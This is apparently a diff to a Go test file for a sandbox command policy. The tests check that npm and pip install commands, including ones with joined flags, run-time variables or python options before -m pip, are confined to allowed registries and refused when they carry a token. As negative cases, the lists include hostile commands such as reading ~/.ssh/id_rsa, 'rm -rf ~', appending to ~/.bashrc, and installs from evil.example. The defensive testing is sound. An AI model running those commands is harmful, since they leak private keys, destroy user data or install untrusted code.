@@ -65,7 +65,7 @@ func TestDownloadsThroughAllowedHosts(t *testing.T) {
 	}
 	for _, command := range []string{
 		"npm install", "npm i", "npm ci", "npm install --save-dev @types/node", "cd web && npm install",
-		"timeout 300 npm ci", "pip install -e .", "pip install -r requirements.txt", "pip3 install requests",
+		"timeout 300 npm ci", "pip install -e .", "pip install -Ur requirements.txt", "npm install -DE left-pad", "pip install -r requirements.txt", "pip3 install requests",
 		"python -m pip install -U pip", "python3 -m pip install -e '.[dev]'", ".venv/bin/pip install -e '.[dev]'",
 		"uv sync", "uv pip install -r requirements.txt", "tox -e py311", "pip3.12 install requests",
 		"pip install -r requirements.txt && python -m pytest -q", "npm ci && npm test",
@@ -91,6 +91,9 @@ func TestDownloadsThroughAllowedHosts(t *testing.T) {
 		"pip install --index-url=https://evil.example/simple x", "pip install --extra-index-url https://e.example/simple x",
 		"pip install git+https://github.com/a/b", "pip install https://e.example/x.whl", "npm install --registry=https://r.example",
 		"npm install github:a/b#main", "uv pip install --system requests",
+		// run together, or only known at run time
+		"npm install -gf typescript", "npm i -Dg x", "pip install -Ut /opt/x requests", "pip install -qie.example/simple x",
+		"npm install $FLAGS x", "npm install $(echo -g) x", `pip install "$OPTS" requests`, "npm ci ${EXTRA}",
 		// something else beyond the boundary too
 		"npm install && curl https://example.com", "pip install x && cat ~/.ssh/id_rsa", "pip install x && rm -rf ~",
 		"sudo pip install x", "npm install && git push", "pip install x > ~/.bashrc",
@@ -122,5 +125,37 @@ func TestDownloadsThroughAllowedHosts(t *testing.T) {
 	// Every confined download is a fetcher's.
 	for key := range confinedFetches.all() {
 		assert.True(t, fetchers.has(key), "%s is not a fetcher", key)
+	}
+}
+
+// TestPythonOptionsBeforePip: python's own options before -m pip (-I,
+// joined ones, -W's value) leave it pip: its download needs the network,
+// and through the proxy it is held to what pip's is (its registry
+// allowed, no other place, no token).
+func TestPythonOptionsBeforePip(t *testing.T) {
+	e := testEngine(t)
+	pol := config.Policy{Security: config.SecurityAllowlist, Ask: config.AskOnMiss, AskFallback: config.SecurityDeny, TimeoutMs: 1000, AutoAllowSafe: true}
+	registries := []string{"pypi.org", "files.pythonhosted.org", "registry.npmjs.org"}
+	needs := func(command string, hosts []string, env map[string]string) Needs {
+		t.Helper()
+		res := e.Evaluate(Request{Command: command, Cwd: testWorkspace, Home: testHome, Policy: pol})
+		return NeedsOf(res, testWorkspace, testHome).WithHosts(hosts, func(k string) string { return env[k] })
+	}
+	for _, python := range []string{"python3 -I -m pip", "python3 -Im pip", "python3 -mpip", "python3 -E -s -m pip",
+		"python3 -W ignore -m pip", "python3 -Wignore -m pip", "python3 -X utf8 -m pip", "python3 -u -B -m pip",
+		".venv/bin/python -I -m pip", "python3 --check-hash-based-pycs never -m pip"} {
+		n := needs(python+" install requests", nil, nil)
+		assert.True(t, n.Network, "%s install: %+v", python, n)
+		assert.False(t, n.Within(), "%s install runs confined with no hosts", python)
+		assert.True(t, needs(python+" install requests", registries, nil).Proxied, "%s install", python)
+		for _, c := range []string{python + " install --user requests", python + " install -i https://e.example/simple x"} {
+			assert.False(t, needs(c, registries, nil).Within(), c)
+		}
+		assert.False(t, needs(python+" install requests", registries, map[string]string{"TWINE_PASSWORD": "pypi-x"}).Within(),
+			"%s install with a token in the environment", python)
+	}
+	for _, argv := range [][]string{{"-c", "import pip"}, {"script.py", "-m", "pip"}, {"--", "-m", "pip"}, {"-m"}, {"-Q", "-m", "pip"}} {
+		_, _, ok := pythonModule(argv)
+		assert.False(t, ok, "%q", argv)
 	}
 }
